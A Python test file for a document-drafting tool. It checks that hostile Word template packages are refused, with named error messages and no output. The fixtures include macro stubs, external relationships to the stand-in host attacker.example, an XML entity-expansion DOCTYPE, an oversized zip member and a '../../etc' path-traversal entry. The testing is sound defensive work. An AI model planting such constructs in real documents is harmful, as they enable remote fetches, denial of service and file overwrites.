"""A hostile template package is refused by ``draft answer`` before it is opened: a clear message, no file.

Each package is the built-in answer template with one hostile part; the same packages are refused by
``draft templates check`` with the part named.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from templates_support import ANSWER, declare, document_type, draft_answer, part, repackaged, run_cli, write_template

SOURCE = ANSWER.read_bytes()
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _external(kind: str) -> bytes:
    rels = part("word/_rels/document.xml.rels")
    rel = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="http://attacker.example/x" TargetMode="External"/>'
    return repackaged(
        SOURCE,
        replace={"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")},
    )


def _doctype() -> bytes:
    body = part("word/document.xml").split(b"?>", 1)[1]
    bomb = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return repackaged(SOURCE, replace={"word/document.xml": bomb + body})


HOSTILE = {
    "vba-macros": (repackaged(SOURCE, add={"word/vbaProject.bin": b"\x00VBA"}), "宏"),
    "docm": (
        repackaged(
            SOURCE,
            replace={
                "[Content_Types].xml": document_type(
                    part("[Content_Types].xml"), "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        "启用宏",
    ),
    "attached-template": (_external("attachedTemplate"), "附加模板"),
    "linked-image": (_external("image"), "外部图片"),
    "doctype": (_doctype(), "DOCTYPE"),
    "zip-bomb": (repackaged(SOURCE, add={"word/media/big.bin": b"\0" * (21 * 2**20)}), "word/media/big.bin"),
    "traversal": (repackaged(SOURCE, add={"../../etc/evil.xml": b"<x/>"}), "路径穿越"),
    "embedded-macro-workbook": (
        repackaged(
            SOURCE,
            replace={
                "[Content_Types].xml": declare(
                    part("[Content_Types].xml"),
                    "word/embeddings/b.xlsm",
                    "application/vnd.ms-excel.sheet.macroEnabled.12",
                )
            },
            add={"word/embeddings/b.xlsm": b"PK"},
        ),
        "启用宏",
    ),
    "not-a-zip": (b"<html>not a document</html>", "不是 Word 文档"),
}


@pytest.mark.parametrize(("data", "expected"), HOSTILE.values(), ids=HOSTILE.keys())
def test_draft_refuses_a_hostile_template_and_writes_nothing(
    data: bytes, expected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "templates"
    write_template(folder, data)
    out = tmp_path / "out"
    code, _, err = draft_answer(folder, out, capsys)
    assert code != 0
    assert err.startswith("错误：模板 answer.docx 不能使用") and expected in err, err
    assert "Traceback" not in err
    assert not out.exists() or not any(out.iterdir())


@pytest.mark.parametrize(("data", "expected"), HOSTILE.values(), ids=HOSTILE.keys())
def test_the_linter_reports_a_hostile_template(
    data: bytes, expected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_template(tmp_path, data)
    code, out, _ = run_cli(["templates", "check", str(path)], capsys)
    assert code == 1 and "[TEMPLATE-PACKAGE]" in out and expected in out
